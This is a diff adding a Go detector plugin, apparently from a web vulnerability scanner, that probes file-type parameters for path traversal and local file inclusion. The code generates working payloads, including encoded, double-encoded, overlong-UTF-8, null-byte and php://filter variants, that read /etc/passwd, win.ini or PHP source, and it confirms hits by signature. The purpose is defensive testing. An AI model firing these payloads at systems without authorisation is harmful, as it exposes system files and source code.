@@ -0,0 +1,357 @@
+package file
+
+import (
+	"context"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"path"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// PathTraversalDetector 路径遍历/本地文件包含检测器
+type PathTraversalDetector struct {
+	*detector.BasePlugin
+	requestModifier *detector.RequestModifier
+	paramExtractor  *detector.ParameterExtractor
+}
+
+// NewPathTraversalDetector 创建路径遍历检测器
+func NewPathTraversalDetector(httpClient transport.HTTPClient) *PathTraversalDetector {
+	base := detector.NewBasePlugin(
+		"path-traversal",
+		detector.PluginTypeActive,
+		models.CategoryInjection,
+		models.SeverityHigh,
+	)
+
+	base.SetDescription("检测路径遍历与本地文件包含漏洞，通过文件特征确认读取成功")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &PathTraversalDetector{
+		BasePlugin:      base,
+		requestModifier: detector.NewRequestModifier(httpClient),
+		paramExtractor:  detector.NewParameterExtractor(),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (p *PathTraversalDetector) SetSessionCookies(cookies []*http.Cookie) {
+	p.requestModifier.SetSessionCookies(cookies)
+}
+
+// FileSignature 目标文件及其内容特征
+type FileSignature struct {
+	Name    string         // 文件描述
+	Unix    bool           // 是否为Unix路径
+	Path    string         // 不含前导分隔符的相对路径
+	Pattern *regexp.Regexp // 文件内容特征
+}
+
+// TraversalPayload 遍历payload
+type TraversalPayload struct {
+	Value     string
+	Raw       bool // 已预先编码，需原样发送
+	Technique string
+	Signature *FileSignature
+}
+
+var fileSignatures = []*FileSignature{
+	{
+		Name:    "/etc/passwd",
+		Unix:    true,
+		Path:    "etc/passwd",
+		Pattern: regexp.MustCompile(`root:[^:\r\n]*:0:0:`),
+	},
+	{
+		Name:    "win.ini",
+		Unix:    false,
+		Path:    `windows\win.ini`,
+		Pattern: regexp.MustCompile(`(?i)(\[fonts\][\s\S]*\[extensions\]|; for 16-bit app support)`),
+	},
+}
+
+// phpSourcePattern php://filter读取源码后的特征
+var phpSourcePattern = regexp.MustCompile(`<\?(php|=)`)
+
+// base64RunPattern 响应中的长base64片段
+var base64RunPattern = regexp.MustCompile(`[A-Za-z0-9+/]{40,}={0,2}`)
+
+// fileParamHints 常见的文件类参数名
+var fileParamHints = []string{
+	"file", "path", "page", "include", "inc", "lang", "language", "template", "tpl",
+	"doc", "document", "dir", "folder", "load", "read", "view", "show", "content",
+	"filename", "download", "module", "style", "conf", "layout",
+}
+
+// traversalDepth 遍历层数
+const traversalDepth = 8
+
+// Execute 执行路径遍历检测
+func (p *PathTraversalDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	var filePoints []detector.InjectPoint
+	for _, point := range p.paramExtractor.ExtractParameters(target) {
+		if point.Position == models.PositionHEADER {
+			continue
+		}
+		if point.Type == detector.ParamTypePath || isFileParamName(point.Name) {
+			filePoints = append(filePoints, point)
+		}
+	}
+
+	if len(filePoints) == 0 {
+		result.Metadata["message"] = "未发现文件类参数"
+		return result, nil
+	}
+
+	fmt.Printf("[INFO] 路径遍历检测器找到 %d 个文件类参数\n", len(filePoints))
+
+	for _, point := range filePoints {
+		select {
+		case <-ctx.Done():
+			return result, ctx.Err()
+		default:
+		}
+
+		fmt.Printf("[INFO] 正在测试参数: %s (值: %s)\n", point.Name, point.Value)
+
+		// 基准响应，用于排除页面本身就包含文件特征的情况
+		baseline, err := p.send(ctx, target, point, point.Value, false)
+		if err != nil {
+			continue
+		}
+
+		if vuln := p.testTraversal(ctx, target, point, baseline); vuln != nil {
+			result.IsVulnerable = true
+			result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+			result.Evidence = append(result.Evidence, detector.Evidence{
+				Type:        detector.EvidenceTypePattern,
+				Description: fmt.Sprintf("参数 %s 返回了目标文件内容", point.Name),
+				Data:        vuln.Evidence,
+				Confidence:  vuln.Confidence,
+			})
+			fmt.Printf("[SUCCESS] 发现路径遍历漏洞: %s\n", point.Name)
+		}
+	}
+
+	result.Metadata["tested_parameters"] = len(filePoints)
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// testTraversal 依次尝试各遍历变体，首个命中文件特征的payload即为漏洞
+func (p *PathTraversalDetector) testTraversal(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, baseline string) *models.Vulnerability {
+	for _, payload := range buildTraversalPayloads(point.Value) {
+		fmt.Printf("[DEBUG] 测试路径遍历payload: %s (%s)\n", payload.Value, payload.Technique)
+
+		body, err := p.send(ctx, target, point, payload.Value, payload.Raw)
+		if err != nil {
+			continue
+		}
+
+		var evidence string
+		if payload.Signature != nil {
+			match := payload.Signature.Pattern.FindString(body)
+			if match == "" || payload.Signature.Pattern.MatchString(baseline) {
+				continue
+			}
+			evidence = fmt.Sprintf("响应中出现 %s 的内容特征: %q", payload.Signature.Name, truncate(match, 80))
+		} else {
+			// php://filter源码读取：响应中出现可解码为PHP源码的base64片段
+			source := decodePHPSource(body)
+			if source == "" || decodePHPSource(baseline) != "" {
+				continue
+			}
+			evidence = fmt.Sprintf("php://filter返回了base64编码的源码: %q", truncate(source, 80))
+		}
+
+		return models.NewVulnerabilityBuilder().
+			WithType(models.VulnPathTraversal).
+			WithCategory(models.CategoryInjection).
+			WithSeverity(models.SeverityHigh).
+			WithTitle("Path Traversal / Local File Inclusion").
+			WithDescription(fmt.Sprintf("参数 %s 被用于拼接文件路径，可以读取Web目录之外的任意文件", point.Name)).
+			WithURL(target.URL.String()).
+			WithMethod(target.Method).
+			WithParameter(point.Name, point.Position).
+			WithPayload(payload.Value).
+			WithEvidence(evidence).
+			WithConfidence(0.95).
+			WithPlugin(p.Name()).
+			WithCWE("CWE-22").
+			WithCVSS(7.5).
+			WithSolution("不要将用户输入直接用于文件路径，使用文件ID映射或白名单，并对规范化后的路径校验其位于允许的目录内").
+			WithReferences([]string{
+				"https://owasp.org/www-community/attacks/Path_Traversal",
+				"https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion",
+			}).
+			WithMetadata("technique", payload.Technique).
+			Build()
+	}
+
+	return nil
+}
+
+// send 发送payload并读取响应体，raw为true时不再对payload进行URL编码
+func (p *PathTraversalDetector) send(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, payload string, raw bool) (string, error) {
+	var resp *http.Response
+	var err error
+	if raw {
+		resp, err = p.requestModifier.ModifyParameterRaw(ctx, target, point, payload)
+	} else {
+		resp, err = p.requestModifier.ModifyParameter(ctx, target, point, payload)
+	}
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	body, err := helper.ReadBody(resp)
+	if err != nil {
+		return "", err
+	}
+	return string(body), nil
+}
+
+// buildTraversalPayloads 构造普通、编码、双重编码、空字节截断及伪协议变体
+func buildTraversalPayloads(original string) []TraversalPayload {
+	var payloads []TraversalPayload
+
+	// 原始值带扩展名时，应用可能会自动追加扩展名，用空字节截断
+	ext := path.Ext(original)
+	if ext == "" {
+		ext = ".php"
+	}
+
+	for _, sig := range fileSignatures {
+		sep := "/"
+		absolute := "/" + sig.Path
+		if !sig.Unix {
+			sep = `\`
+			absolute = `C:\` + sig.Path
+		}
+		dots := strings.Repeat(".."+sep, traversalDepth)
+		filePath := sig.Path
+
+		// URL编码形式（原样发送）
+		encSep := "%2f"
+		if !sig.Unix {
+			encSep = "%5c"
+		}
+		encPath := strings.ReplaceAll(strings.ReplaceAll(filePath, "/", encSep), `\`, encSep)
+
+		payloads = append(payloads,
+			TraversalPayload{Value: dots + filePath, Technique: "plain", Signature: sig},
+			TraversalPayload{Value: absolute, Technique: "absolute", Signature: sig},
+			TraversalPayload{Value: strings.Repeat("...."+sep+sep, traversalDepth) + filePath, Technique: "filter-bypass", Signature: sig},
+			TraversalPayload{
+				Value:     strings.Repeat("..%2f", traversalDepth) + strings.ReplaceAll(filePath, `\`, "%2f"),
+				Raw:       true,
+				Technique: "url-encoded",
+				Signature: sig,
+			},
+			TraversalPayload{
+				Value:     strings.Repeat("%2e%2e"+encSep, traversalDepth) + encPath,
+				Raw:       true,
+				Technique: "full-url-encoded",
+				Signature: sig,
+			},
+			TraversalPayload{
+				Value:     strings.Repeat("%252e%252e%252f", traversalDepth) + strings.ReplaceAll(strings.ReplaceAll(filePath, `\`, "%252f"), "/", "%252f"),
+				Raw:       true,
+				Technique: "double-url-encoded",
+				Signature: sig,
+			},
+			TraversalPayload{
+				Value:     strings.Repeat("..%c0%af", traversalDepth) + strings.ReplaceAll(filePath, `\`, "/"),
+				Raw:       true,
+				Technique: "overlong-utf8",
+				Signature: sig,
+			},
+			TraversalPayload{
+				Value:     strings.Repeat("..%2f", traversalDepth) + strings.ReplaceAll(filePath, `\`, "%2f") + "%00" + ext,
+				Raw:       true,
+				Technique: "null-byte",
+				Signature: sig,
+			},
+		)
+
+		if sig.Unix {
+			payloads = append(payloads,
+				TraversalPayload{Value: "php://filter/resource=" + absolute, Technique: "php-filter-wrapper", Signature: sig},
+				TraversalPayload{Value: "file://" + absolute, Technique: "file-wrapper", Signature: sig},
+			)
+		}
+	}
+
+	// php://filter读取原始包含文件的源码
+	if original != "" {
+		payloads = append(payloads, TraversalPayload{
+			Value:     "php://filter/convert.base64-encode/resource=" + original,
+			Technique: "php-filter-base64",
+		})
+		if trimmed := strings.TrimSuffix(original, ".php"); trimmed != original {
+			payloads = append(payloads, TraversalPayload{
+				Value:     "php://filter/convert.base64-encode/resource=" + trimmed,
+				Technique: "php-filter-base64",
+			})
+		}
+	}
+
+	return payloads
+}
+
+// decodePHPSource 在响应中查找可解码为PHP源码的base64片段
+func decodePHPSource(body string) string {
+	for _, run := range base64RunPattern.FindAllString(body, -1) {
+		decoded, err := base64.StdEncoding.DecodeString(run)
+		if err != nil {
+			// 片段可能被截断或缺少填充
+			decoded, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(run, "="))
+			if err != nil {
+				continue
+			}
+		}
+		if phpSourcePattern.Match(decoded) {
+			return string(decoded)
+		}
+	}
+	return ""
+}
+
+// isFileParamName 根据参数名判断是否为文件类参数
+func isFileParamName(name string) bool {
+	lowerName := strings.ToLower(name)
+	for _, hint := range fileParamHints {
+		if lowerName == hint || strings.HasSuffix(lowerName, "_"+hint) || strings.HasPrefix(lowerName, hint+"_") {
+			return true
+		}
+	}
+	return false
+}
+
+// truncate 截断过长的证据
+func truncate(s string, n int) string {
+	if len(s) <= n {
+		return s
+	}
+	return s[:n] + "..."
+}